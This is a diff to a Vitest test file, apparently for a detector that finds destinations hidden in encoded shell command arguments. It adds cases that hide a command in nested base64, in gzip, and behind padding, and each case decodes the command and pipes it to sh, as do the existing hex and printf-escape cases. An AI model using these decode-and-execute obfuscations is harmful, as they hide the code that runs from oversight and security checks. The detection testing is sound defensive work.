@@ -1,3 +1,4 @@
+import { gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { circleKeysOf, destinationsOf } from './destinations.js';
 import { KnownParties } from './known-parties.js';
@@ -68,6 +69,9 @@ describe('destinations carried encoded in a call’s arguments', () => {
     'before a dot (base64 -d writes what it read before the error)': `echo ${e}.x | base64 -d | sh`,
     'as a text data: URI': `X='data:;base64,${e}'; echo "\${X#*,}" | base64 -d | sh`,
     'as spaced hex (xxd -r -p)': `echo '${hex(cmd).replace(/(..)/g, '$1 ')}' | xxd -r -p | sh`,
+    'in base64 of base64 of base64 of base64': `echo ${b64(b64(b64(e)))} | base64 -d | base64 -d | base64 -d | base64 -d | sh`,
+    'gzipped (base64 -d | gunzip)': `echo ${gzipSync(cmd).toString('base64')} | base64 -d | gunzip | sh`,
+    'gzipped after 20 KB of padding': `echo ${gzipSync(`${' '.repeat(20_000)}\n${cmd}`).toString('base64')} | base64 -d | gunzip | sh`,
     'as printf hex escapes': `printf '${[...Buffer.from(cmd)].map((c) => `\\x${c.toString(16)}`).join('')}' | sh`,
     'as printf octal escapes': `printf '${[...Buffer.from(cmd)].map((c) => `\\${c.toString(8).padStart(3, '0')}`).join('')}' | sh`,
   };
